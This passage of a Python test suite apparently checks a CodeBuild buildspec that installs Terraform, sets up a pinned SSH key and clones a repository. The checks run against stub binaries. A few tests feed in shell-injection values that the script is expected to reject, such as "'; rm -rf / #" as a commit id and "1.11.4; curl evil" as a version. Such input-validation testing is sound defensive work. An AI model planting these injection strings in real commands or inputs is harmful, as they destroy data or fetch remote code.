        ({"DEPLOYMENT_DIRS": "infra/base missing"}, "'missing' is not in the repository"),
        ({"DEPLOYMENT_DIRS": " "}, "DEPLOYMENT_DIRS is empty"),
    ],
)
def test_build_refuses_bad_input_before_running_terraform(
    sandbox: Sandbox, buildspec: dict[str, Any], overrides: dict[str, str], message: str
) -> None:
    sandbox.make_repo("infra/base", "terraform")
    run = sandbox.run(_phase_script(buildspec, "build"), **overrides)
    assert run.returncode != 0
    assert message in run.stderr
    assert sandbox.calls("terraform") == []


def test_pre_build_writes_the_key_pins_the_host_and_clones_the_branch(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    run = sandbox.run(
        _phase_script(buildspec, "pre_build"), GIT_SSH_KEY=FAKE_KEY.replace("\n", "\r\n")
    )
    assert run.returncode == 0, run.stderr
    ssh_dir = sandbox.home / ".ssh"
    key = ssh_dir / "id_git"
    assert key.read_text(encoding="utf-8") == FAKE_KEY + "\n"
    assert stat.S_IMODE(key.stat().st_mode) == 0o600
    assert stat.S_IMODE(ssh_dir.stat().st_mode) == 0o700
    assert "github.com ssh-ed25519 " in (ssh_dir / "known_hosts").read_text(encoding="utf-8")
    config = (ssh_dir / "config").read_text(encoding="utf-8")
    assert "Host github.com\n" in config
    assert "  Port 22\n" in config
    assert "  StrictHostKeyChecking yes\n" in config
    assert f"  IdentityFile {key}\n" in config
    assert sandbox.calls("ssh-keyscan") == [["-T", "15", "-p", "22", "github.com"]]
    assert sandbox.calls("git")[0] == [
        "clone",
        "--depth",
        "1",
        "--branch",
        "main",
        "git@github.com:example-org/data-lake-config.git",
        "repo",
    ]
    assert "trusting the scanned host keys on first use" in run.stderr


def test_pre_build_handles_ssh_urls_and_another_port(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    url = "ssh://git@git.example.com/platform/data-lake.git"
    run = sandbox.run(_phase_script(buildspec, "pre_build"), REPO_URL=url, GIT_SSH_PORT="2222")
    assert run.returncode == 0, run.stderr
    assert sandbox.calls("ssh-keyscan") == [["-T", "15", "-p", "2222", "git.example.com"]]
    config = (sandbox.home / ".ssh" / "config").read_text(encoding="utf-8")
    assert "Host git.example.com\n  Port 2222\n" in config
    assert sandbox.calls("git")[0][-2:] == [url, "repo"]


def test_pre_build_checks_the_host_key_fingerprint(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    script = _phase_script(buildspec, "pre_build")
    good = sandbox.run(
        script, GIT_HOST_FINGERPRINT="SHA256:+DiY3wvvV6TuJJhbpZisF/zLDA0zPMSvHdkr4UvCOqU"
    )
    assert good.returncode == 0, good.stderr
    assert "first use" not in good.stderr
    sandbox.log.unlink()
    bad = sandbox.run(
        script, GIT_HOST_FINGERPRINT="SHA256:nThbg6kXUpJWGl7E1IGOCspRomTxdCARLviKw6E5SY8"
    )
    assert bad.returncode != 0
    assert "refusing to connect" in bad.stderr
    assert sandbox.calls("git") == []


def test_pre_build_refuses_a_non_ssh_url(sandbox: Sandbox, buildspec: dict[str, Any]) -> None:
    run = sandbox.run(
        _phase_script(buildspec, "pre_build"), REPO_URL="https://github.com/org/repo.git"
    )
    assert run.returncode != 0
    assert "REPO_URL must be an SSH URL" in run.stderr
    assert sandbox.calls("git") == []
    assert not (sandbox.home / ".ssh" / "id_git").exists()


TIP = "0123456789abcdef0123456789abcdef01234567"  # what the git stub's rev-parse says


@pytest.mark.parametrize("commit", [TIP, "fedcba9876543210fedcba9876543210fedcba98"])
def test_pre_build_checks_out_the_commit_a_reviewed_plan_ran(
    sandbox: Sandbox, buildspec: dict[str, Any], commit: str
) -> None:
    """An apply started with GIT_COMMIT runs that commit, not what was merged after the plan."""
    run = sandbox.run(_phase_script(buildspec, "pre_build"), GIT_COMMIT=commit)
    assert run.returncode == 0, run.stderr
    moves = [c[2:] for c in sandbox.calls("git") if c[:2] == ["-C", "repo"] and c[2] != "rev-parse"]
    assert moves == ([] if commit == TIP else [["fetch", "--depth", "1", "origin", commit],
                                               ["checkout", "--quiet", "--detach", commit]])


@pytest.mark.parametrize("commit", ["0123456", "main", TIP.upper(), TIP + "0", "'; rm -rf / #"])
def test_pre_build_refuses_a_commit_that_is_not_a_full_id(
    sandbox: Sandbox, buildspec: dict[str, Any], commit: str
) -> None:
    run = sandbox.run(_phase_script(buildspec, "pre_build"), GIT_COMMIT=commit)
    assert run.returncode != 0
    assert "is not a full commit id (40 lower-case hex digits)" in run.stderr
    assert [c[0] for c in sandbox.calls("git")] == ["clone"]


def test_post_build_removes_the_key_and_reports(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    assert sandbox.run(_phase_script(buildspec, "pre_build")).returncode == 0
    run = sandbox.run(_phase_script(buildspec, "post_build"), CODEBUILD_BUILD_SUCCEEDING="1")
    assert run.returncode == 0, run.stderr
    assert not (sandbox.home / ".ssh" / "id_git").exists()
    assert "terraform plan of 'infra/base terraform'" in run.stdout
    assert (
        "main@0123456789abcdef0123456789abcdef01234567 for aws-challenge/dev: succeeded"
        in run.stdout
    )


# The install phase with the downloads, gpg, unzip and chmod replaced: nothing leaves the sandbox.
_INSTALL_STUBS = {
    "curl": """
out="$5"
case "$out" in
  *.zip) printf '%s' "${STUB_ZIP_BYTES}" > "$out" ;;
  *_SHA256SUMS)
    printf '%s  terraform_1.11.4_darwin_arm64.zip\\n' 0000 > "$out"
    printf '%s  terraform_1.11.4_linux_amd64.zip\\n' "$(printf 'release-bytes' | sha256sum | cut -d' ' -f1)" >> "$out" ;;
  *) printf 'signature or key\\n' > "$out" ;;
esac
""",
    "gpg": """
for arg in "$@"; do
  if [ "$arg" = --verify ]; then
    echo "[GNUPG:] VALIDSIG 374EC75B485913604A831CC7C820C6D5CD27AB87 2025-04-16 1744800000 0 4 0 1 10 00 ${STUB_SIGNER}"
  fi
done
""",
    "unzip": "exit 0",
    "chmod": "exit 0",
}


@pytest.mark.parametrize(
    ("zip_bytes", "signer", "installed", "message"),
    [
        ("release-bytes", "C874011F0AB405110D02105534365D9472D7468F", True, ""),
        (
            "release-bytes",
            "0123456789ABCDEF0123456789ABCDEF01234567",
            False,
            "not signed by HashiCorp",
        ),
        ("tampered-bytes", "C874011F0AB405110D02105534365D9472D7468F", False, "FAILED"),
    ],
)
def test_install_checks_signature_and_checksum_before_installing(
    sandbox: Sandbox,
    buildspec: dict[str, Any],
    zip_bytes: str,
    signer: str,
    installed: bool,
    message: str,
) -> None:
    for name, body in _INSTALL_STUBS.items():
        sandbox.add_stub(name, body)
    run = sandbox.run(
        _phase_script(buildspec, "install"),
        TF_VERSION="1.11.4",
        HASHICORP_PGP_FINGERPRINT=buildspec["env"]["variables"]["HASHICORP_PGP_FINGERPRINT"],
        STUB_ZIP_BYTES=zip_bytes,
        STUB_SIGNER=signer,
    )
    downloads = [call[-1] for call in sandbox.calls("curl")]
    assert downloads[:3] == [
        "https://releases.hashicorp.com/terraform/1.11.4/terraform_1.11.4_linux_amd64.zip",
        "https://releases.hashicorp.com/terraform/1.11.4/terraform_1.11.4_SHA256SUMS",
        "https://releases.hashicorp.com/terraform/1.11.4/terraform_1.11.4_SHA256SUMS.sig",
    ]
    if installed:
        assert run.returncode == 0, run.stderr
        assert sandbox.calls("unzip") == [
            ["-o", "-q", "terraform_1.11.4_linux_amd64.zip", "terraform", "-d", "/usr/local/bin"]
        ]
        assert sandbox.calls("terraform") == [["version"]]
    else:
        assert run.returncode != 0
        assert message in run.stderr + run.stdout
        assert sandbox.calls("unzip") == []


def test_install_refuses_a_version_that_is_not_a_release_number(
    sandbox: Sandbox, buildspec: dict[str, Any]
) -> None:
    run = sandbox.run(_phase_script(buildspec, "install"), TF_VERSION="1.11.4; curl evil")
    assert run.returncode != 0
    assert "TF_VERSION '1.11.4; curl evil' is not a release number x.y.z" in run.stderr
    assert sandbox.calls() == []
